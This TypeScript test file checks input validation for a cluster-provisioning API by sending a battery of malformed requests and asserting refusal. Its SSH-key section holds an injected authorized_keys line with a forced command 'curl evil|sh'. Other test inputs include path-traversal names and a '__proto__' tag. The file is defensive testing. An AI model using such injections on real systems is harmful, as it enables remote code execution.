// Bad input at the API's edge, against one local stack: a battery of malformed requests (every one gets a 4xx with
// the error envelope, never a 5xx, and nothing is created: no orchestration, no cluster record, no Azure call that
// changes anything), then one section for each rule that needed more than a battery entry. The sections that
// create clusters come last, after the battery has checked that nothing started.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { maxBodyBytes } from '../../../src/api/json';
import { sshRsaPublicKey } from '../../../local/support/ssh-key';
import { assertMatchesContract } from '../../support/contract';
import { repoRoot } from '../../support/process';
import { call, startTestStack, type ApiAnswer } from '../../support/stack';

let stack: Awaited<ReturnType<typeof startTestStack>>;
const key = sshRsaPublicKey();
const weakKey = sshRsaPublicKey(1024);
const valid = { name: 'valid1', linuxProfile: { sshPublicKey: key } };

before(async () => {
  stack = await startTestStack();
});

after(async () => {
  await stack?.stop();
});

function assertEnvelope(answer: ApiAnswer, what: string): void {
  assert.ok(answer.status >= 400 && answer.status < 500, `${what}: expected a 4xx, got ${answer.status} ${answer.text.slice(0, 300)}`);
  let body: any;
  try {
    body = answer.json();
  } catch {
    assert.fail(`${what}: the ${answer.status} answer is not JSON: ${answer.text.slice(0, 200)}`);
  }
  assert.equal(typeof body.error?.code, 'string', `${what}: no error.code in ${answer.text.slice(0, 300)}`);
  assert.equal(typeof body.error?.message, 'string', `${what}: no error.message`);
  assert.equal(answer.headers.get('x-ms-error-code'), body.error.code, `${what}: x-ms-error-code must repeat the code`);
}

const withBody = (patch: (body: any) => void) => {
  const body = structuredClone(valid) as any;
  patch(body);
  return body;
};

/** [description, body] pairs of JSON bodies that break one rule each. */
function invalidBodies(): Array<[string, unknown]> {
  const cases: Array<[string, unknown]> = [];
  const add = (what: string, patch: (body: any) => void) => cases.push([what, withBody(patch)]);
  for (const body of [[], 'text', 42, null, true, [valid]]) cases.push([`body ${JSON.stringify(body).slice(0, 20)}`, body]);
  add('name missing', (b) => delete b.name);
  for (const name of [42, null, true, ['a'], { n: 1 }]) add(`name of type ${typeof name}`, (b) => (b.name = name));
  for (const name of [
    '',
    'a',
    'ab',
    'Demo1',
    '1demo',
    'demo-',
    '-demo',
    'de_mo',
    'de.mo',
    'de mo',
    'x'.repeat(42),
    '../etc',
    'd%2e',
    'dëmo',
    'demo\n',
    'demo/x',
    'demo\u0000',
  ]) {
    add(`name ${JSON.stringify(name).slice(0, 20)}`, (b) => (b.name = name));
  }
  for (const location of ['eastus', 'CentralUS', '', 'central us', 123, null])
    add(`location ${JSON.stringify(location)}`, (b) => (b.location = location));
  add('masterProfile not an object', (b) => (b.masterProfile = 'big'));
  add('masterProfile array', (b) => (b.masterProfile = [1]));
  for (const count of [0, 2, 4, 6, -1, 1.5, '1', null, 7])
    add(`master count ${JSON.stringify(count)}`, (b) => (b.masterProfile = { count }));
  for (const vmSize of ['Standard_A1', 'bogus', '', 5, 'standard_d2_v3', 'Standard_B1s'])
    add(`master vmSize ${JSON.stringify(vmSize)}`, (b) => (b.masterProfile = { vmSize }));
  add('masterProfile unknown key', (b) => (b.masterProfile = { count: 1, dnsPrefix: 'x' }));
  add('masterProfile cosmosEtcd', (b) => (b.masterProfile = { cosmosEtcd: false }));
  add('agentPoolProfiles empty', (b) => (b.agentPoolProfiles = []));
  add('agentPoolProfiles object', (b) => (b.agentPoolProfiles = { name: 'agent' }));
  add('agentPoolProfiles 13 pools', (b) => (b.agentPoolProfiles = Array.from({ length: 13 }, (_, i) => ({ name: `pool${i}` }))));
  add('agent pool null', (b) => (b.agentPoolProfiles = [null]));
  for (const name of ['Agent', 'a-b', 'toolongpoolname1', '1pool', '', 7])
    add(`pool name ${JSON.stringify(name)}`, (b) => (b.agentPoolProfiles = [{ name }]));
  add('pool names duplicated', (b) => (b.agentPoolProfiles = [{ name: 'agent' }, { name: 'agent' }]));
  add('second pool without name', (b) => (b.agentPoolProfiles = [{ name: 'agent' }, { count: 2 }]));
  for (const count of [0, 101, 1.5, '3', null])
    add(`pool count ${JSON.stringify(count)}`, (b) => (b.agentPoolProfiles = [{ name: 'agent', count }]));
  for (const vmSize of ['Standard_A0', 'nope', ''])
    add(`pool vmSize ${JSON.stringify(vmSize)}`, (b) => (b.agentPoolProfiles = [{ name: 'agent', vmSize }]));
  for (const availabilityProfile of ['Foo', 'availabilityset', 3])
    add(
      `availabilityProfile ${JSON.stringify(availabilityProfile)}`,
      (b) => (b.agentPoolProfiles = [{ name: 'agent', availabilityProfile }]),
    );
  add(
    'mixed availability profiles',
    (b) =>
      (b.agentPoolProfiles = [
        { name: 'a', availabilityProfile: 'AvailabilitySet' },
        { name: 'b', availabilityProfile: 'VirtualMachineScaleSets' },
      ]),
  );
  add('pool unknown key', (b) => (b.agentPoolProfiles = [{ name: 'agent', osType: 'Windows' }]));
  add('linuxProfile missing', (b) => delete b.linuxProfile);
  add('linuxProfile string', (b) => (b.linuxProfile = 'ssh-rsa AAAA'));
  add('linuxProfile unknown key', (b) => (b.linuxProfile.ssh = { publicKeys: [] }));
  for (const adminUsername of ['root', 'admin', 'Admin', '1user', 'a'.repeat(65), '', 'us er', 5])
    add(`adminUsername ${JSON.stringify(adminUsername).slice(0, 20)}`, (b) => (b.linuxProfile.adminUsername = adminUsername));
  add('sshPublicKey missing', (b) => delete b.linuxProfile.sshPublicKey);
  for (const sshPublicKey of [
    '',
    'ssh-dss AAAAB3NzaC1kc3M=',
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl',
    'ssh-rsa not*base64',
    'ssh-rsa AAAA',
    'ssh-rsa',
    weakKey,
    12,
    'x'.repeat(20_000),
  ]) {
    add(`sshPublicKey ${JSON.stringify(sshPublicKey).slice(0, 24)}`, (b) => (b.linuxProfile.sshPublicKey = sshPublicKey));
  }
  for (const tags of [
    'team',
    ['a'],
    { team: 5 },
    { 'a<b': 'x' },
    { 'azure-x': 'y' },
    { 'aks-cosmos-cluster': 'z' },
    { t: 'v'.repeat(257) },
    { '': 'x' },
  ]) {
    add(`tags ${JSON.stringify(tags).slice(0, 24)}`, (b) => (b.tags = tags));
  }
  add('16 tags', (b) => (b.tags = Object.fromEntries(Array.from({ length: 16 }, (_, i) => [`t${i}`, 'v']))));
  for (const field of ['dnsPrefix', 'Name', 'properties', 'orchestratorProfile', 'servicePrincipalProfile'])
    add(`unknown field ${field}`, (b) => (b[field] = 'x'));
  return cases;
}

test('malformed create requests get a 4xx error envelope and start nothing', async (t) => {
  const api = stack.apiBaseUrl;
  const requests: Array<[string, () => Promise<ApiAnswer>]> = [];
  for (const [what, body] of invalidBodies()) requests.push([what, () => call('POST', `${api}/clusters`, { body })]);
  const raw = (what: string, rawBody: string | Buffer, contentType = 'application/json') =>
    requests.push([what, () => call('POST', `${api}/clusters`, { rawBody, headers: { 'content-type': contentType } })]);
  for (const text of [
    '{',
    '{"name":',
    "{'name':'x'}",
    '{"name":"a",}',
    'nul',
    '{"a":1}{"b":2}',
    '\u0000',
    '[1,2',
    '"unterminated',
    '{"name":"x"',
  ])
    raw(`bad JSON ${JSON.stringify(text)}`, text);
  raw('empty body', '');
  raw('invalid UTF-8', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]));
  raw('body over 64 KiB', JSON.stringify({ ...valid, tags: { big: 'x'.repeat(70_000) } }));
  for (const type of [
    'text/plain',
    'application/xml',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/jsonx',
  ])
    raw(`content type ${type}`, JSON.stringify(valid), type);
  requests.push(['no content type', () => call('POST', `${api}/clusters`, { rawBody: JSON.stringify(valid) })]);
  for (const idempotencyKey of ['x'.repeat(300), 'has space', 'tab\there']) {
    requests.push([
      `Idempotency-Key ${idempotencyKey.slice(0, 10)}`,
      () => call('POST', `${api}/clusters`, { body: valid, headers: { 'idempotency-key': idempotencyKey } }),
    ]);
  }
  assert.ok(requests.length >= 100, `the battery has ${requests.length} requests`);
  t.diagnostic(`${requests.length} malformed create requests`);
  for (const [what, send] of requests) {
    const answer = await send();
    assertEnvelope(answer, what);
    if (answer.status === 400) assertMatchesContract('/clusters', 'post', 400, answer.json());
  }
  // Far over the app's limit, the host itself refuses the body before reading it (FUNCTIONS_REQUEST_BODY_SIZE_LIMIT),
  // as the Functions host in Azure does: a bare 413, and the app never sees it.
  const huge = await call('POST', `${api}/clusters`, {
    rawBody: 'x'.repeat(2 * 1024 * 1024),
    headers: { 'content-type': 'application/json' },
  });
  assert.equal(huge.status, 413);
  await assertNothingStarted();
});

test('malformed reads and deletes get a 4xx error envelope', async (t) => {
  const api = stack.apiBaseUrl;
  const urls: Array<[string, string]> = [];
  for (const name of ['A', 'ab', 'UPPER', 'a_b', 'a%2Fb', '%00', 'x'.repeat(45), 'demo-']) {
    for (const suffix of ['', '/kubeconfig', '/artifacts', '/operations']) urls.push(['GET', `${api}/clusters/${name}${suffix}`]);
    urls.push(['DELETE', `${api}/clusters/${name}`]);
  }
  for (const suffix of ['', '/kubeconfig', '/artifacts', '/artifacts/ca.crt', '/operations'])
    urls.push(['GET', `${api}/clusters/nosuch${suffix}`]);
  urls.push(['DELETE', `${api}/clusters/nosuch`]);
  for (const query of ['top=0', 'top=101', 'top=abc', 'top=-1', 'state=Bogus', 'state=Succeeded,Nope', 'skipToken=..%2F'])
    urls.push(['GET', `${api}/clusters?${query}`]);
  t.diagnostic(`${urls.length} malformed reads and deletes`);
  for (const [method, url] of urls) assertEnvelope(await call(method, url), `${method} ${url}`);
  await assertNothingStarted();
});

/** What an error answer names: its target and its details' targets. */
function errorTargets(answer: ApiAnswer): unknown[] {
  const error = answer.json().error;
  return [error.target, ...(error.details ?? []).map((detail: { target?: string }) => detail.target)];
}

async function assertNothingStarted(): Promise<void> {
  const instances = await call('GET', `${stack.apiBaseUrl.replace(/\/api$/, '')}/runtime/webhooks/durabletask/instances/`);
  assert.equal(instances.status, 200);
  assert.deepEqual(instances.json(), [], 'no orchestration may start for a bad request');
  const list = await call('GET', `${stack.apiBaseUrl}/clusters`);
  assert.equal(list.status, 200);
  assert.deepEqual(list.json().value, [], 'no cluster record may be written for a bad request');
  const calls = stack.emulator.admin.calls().calls;
  const writes = Object.entries(calls).filter(([operation]) => /^(PUT|POST|DELETE|PATCH)/.test(operation));
  assert.deepEqual(writes, [], 'no Azure resource may be touched for a bad request');
}

// The host's request size limit is set close to the app's own 64 KiB check (FUNCTIONS_REQUEST_BODY_SIZE_LIMIT),
// locally and in the infrastructure, so a 100 MB body is refused by the host before it is read whole.
describe('request size', () => {
  const ceiling = 1024 * 1024;

  function checkLimit(where: string, value: unknown): void {
    assert.ok(value !== undefined, `${where} sets FUNCTIONS_REQUEST_BODY_SIZE_LIMIT`);
    const bytes = Number(value);
    assert.ok(bytes >= maxBodyBytes && bytes <= ceiling, `${where}: FUNCTIONS_REQUEST_BODY_SIZE_LIMIT is ${String(value)}`);
  }

  test('the app settings locally and in the infrastructure set the host request size limit near 64 KiB', () => {
    const sample = JSON.parse(fs.readFileSync(path.join(repoRoot, 'local.settings.sample.json'), 'utf8'));
    checkLimit('local.settings.sample.json', sample.Values?.FUNCTIONS_REQUEST_BODY_SIZE_LIMIT);
    checkLimit('the local stack', stack.settings.FUNCTIONS_REQUEST_BODY_SIZE_LIMIT);
    const bicep = fs
      .readdirSync(path.join(repoRoot, 'infra'), { recursive: true })
      .filter((file) => String(file).endsWith('.bicep'))
      .map((file) => fs.readFileSync(path.join(repoRoot, 'infra', String(file)), 'utf8'))
      .join('\n');
    // `FUNCTIONS_REQUEST_BODY_SIZE_LIMIT: '<bytes>'` in an app settings object (or name/value pair).
    const setting = /FUNCTIONS_REQUEST_BODY_SIZE_LIMIT'?\s*[:,]\s*(?:value:\s*)?'?(\d+)/.exec(bicep);
    checkLimit('infra/', setting?.[1]);
  });

  test('a body far over the limit is refused without being read whole', async () => {
    const url = `${stack.apiBaseUrl}/clusters`;
    const total = 100 * 1024 * 1024;
    let sent = 0;
    const chunk = Buffer.alloc(64 * 1024, 0x20);
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= total) return controller.close();
        sent += chunk.length;
        controller.enqueue(chunk);
      },
    });
    const status = await fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body,
      duplex: 'half',
    } as RequestInit & { duplex: 'half' })
      .then((response) => response.status)
      .catch(() => 413); // the server may close the connection while the body is still being sent
    assert.equal(status, 413);
    // Socket buffers hold a few megabytes; reading the whole body would take all of it.
    assert.ok(sent < 20 * 1024 * 1024, `the client could send ${sent} bytes before a ${total}-byte body was refused`);
  });
});

// A 400 for a request with thousands of problems stays small: the details are capped and the answer says how
// many were left out.
describe('a 400 with thousands of problems', () => {
  test('3,000 bad tags get a short 400 that says how many problems were not listed', async () => {
    const tags: Record<string, number> = {};
    for (let i = 0; i < 3000; i++) tags[`t${i}`] = i; // numbers where strings are required
    const body = { name: 'tags1', linuxProfile: { sshPublicKey: key }, tags };
    assert.ok(JSON.stringify(body).length < 64 * 1024, 'the request fits the size limit');
    const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { body });
    assert.equal(answer.status, 400, answer.text.slice(0, 300));
    assertMatchesContract('/clusters', 'post', 400, answer.json());
    const details = answer.json().error.details ?? [];
    assert.ok(details.length <= 100, `${details.length} details in one answer`);
    assert.ok(answer.text.length <= 32 * 1024, `the answer is ${answer.text.length} bytes`);
    // The total (3,001 problems: 3,000 values and the tag count) or the number left out is stated.
    const omitted = 3001 - details.length;
    assert.ok(
      [3000, 3001, omitted, omitted - 1].some((count) =>
        new RegExp(`\\b${count}\\b|\\b${count.toLocaleString('en-US')}\\b`).test(answer.text),
      ),
      `the answer says how many problems it left out: ${answer.json().error.message}`,
    );
  });
});

// linuxProfile.sshPublicKey is exactly one line `ssh-rsa <base64> [comment]` without control characters:
// a second line (a forced command with another key) would reach the VMs' authorized keys.
describe('linuxProfile.sshPublicKey', () => {
  const otherKey = sshRsaPublicKey(2048, 'attacker@example');

  test('a key followed by a second line is refused at the edge and nothing is created', async () => {
    const cases: Array<[string, string]> = [
      ['a forced command on a second line', `${key}\ncommand="curl evil|sh" ${otherKey}`],
      ['a second key after a carriage return', `${key}\r${otherKey}`],
      ['a second key after CRLF', `${key}\r\n${otherKey}`],
      ['a NUL in the comment', `${key.replace('tester@example', 'tester\u0000@example')}`],
      ['an escape sequence in the comment', `${key.replace('tester@example', '\u001b[31mtester@example')}`],
      ['a tab in the comment', `${key.replace('tester@example', 'tester\t@example')}`],
    ];
    for (const [index, [what, sshPublicKey]] of cases.entries()) {
      const name = `sshkey${index}`;
      const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: { name, linuxProfile: { sshPublicKey } } });
      assert.equal(answer.status, 400, `${what}: ${answer.status} ${answer.text.slice(0, 300)}`);
      assertMatchesContract('/clusters', 'post', 400, answer.json());
      assert.ok(
        errorTargets(answer).includes('linuxProfile.sshPublicKey'),
        `${what}: the error names linuxProfile.sshPublicKey: ${answer.text}`,
      );
      assert.equal((await call('GET', `${stack.apiBaseUrl}/clusters/${name}`)).status, 404, `${what}: nothing was created`);
    }
  });

  test('one line with a comment is still accepted', async () => {
    const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: { name: 'sshok1', linuxProfile: { sshPublicKey: key } } });
    assert.equal(answer.status, 202, answer.text);
    assert.equal(answer.json().properties.linuxProfile.sshPublicKey, key);
  });
});

// A tag named __proto__ is either refused or kept like any other tag; it is never dropped silently.
describe('a __proto__ tag', () => {
  test('a __proto__ tag is refused with a 400 naming it, or kept', async () => {
    // Written as JSON text: an object literal with __proto__ would set a prototype instead of a property.
    const raw = `{"name":"proto1","linuxProfile":{"sshPublicKey":${JSON.stringify(key)}},"tags":{"team":"a","__proto__":"x"}}`;
    const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { rawBody: raw, headers: { 'content-type': 'application/json' } });
    if (answer.status === 400) {
      assert.ok(
        errorTargets(answer).some((target) => String(target).includes('__proto__')),
        `the refusal names the tag: ${answer.text}`,
      );
      return;
    }
    assert.equal(answer.status, 202, answer.text);
    const tags = answer.json().tags;
    assert.ok(Object.prototype.hasOwnProperty.call(tags, '__proto__'), `the tag is kept: ${JSON.stringify(tags)}`);
    assert.equal(tags['__proto__'], 'x');
    const read = (await call('GET', `${stack.apiBaseUrl}/clusters/proto1`)).text;
    assert.match(read, /"__proto__":"x"/, 'the stored cluster keeps it too');
  });
});

// An Idempotency-Key binds to a request that was accepted: a request refused with 409 (or 400) does not use
// the key up, so the client can send its corrected request with the same key.
describe('an Idempotency-Key and a refused request', () => {
  test('a key sent with a refused request can be used by the next request', async () => {
    const first = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: { name: 'idem1', linuxProfile: { sshPublicKey: key } } });
    assert.equal(first.status, 202, first.text);
    // Same name, another specification: 409, and the key is not bound to it.
    const conflicting = { name: 'idem1', masterProfile: { count: 3 }, linuxProfile: { sshPublicKey: key } };
    const refused = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: conflicting, headers: { 'idempotency-key': 'idem-key-1' } });
    assert.equal(refused.status, 409, refused.text);
    assert.equal(refused.json().error.code, 'ClusterConflict');
    const corrected = await call('POST', `${stack.apiBaseUrl}/clusters`, {
      body: { name: 'idem2', linuxProfile: { sshPublicKey: key } },
      headers: { 'idempotency-key': 'idem-key-1' },
    });
    assert.equal(corrected.status, 202, `the key of a refused request is still free: ${corrected.status} ${corrected.text}`);
    assert.equal(corrected.json().name, 'idem2');
  });

  test('a key sent with an invalid request can be used by the next request', async () => {
    const invalid = await call('POST', `${stack.apiBaseUrl}/clusters`, {
      body: { name: 'idem3', linuxProfile: { sshPublicKey: 'ssh-rsa not-a-key' } },
      headers: { 'idempotency-key': 'idem-key-2' },
    });
    assert.equal(invalid.status, 400, invalid.text);
    const corrected = await call('POST', `${stack.apiBaseUrl}/clusters`, {
      body: { name: 'idem3', linuxProfile: { sshPublicKey: key } },
      headers: { 'idempotency-key': 'idem-key-2' },
    });
    assert.equal(corrected.status, 202, `the key of an invalid request is still free: ${corrected.status} ${corrected.text}`);
  });
});
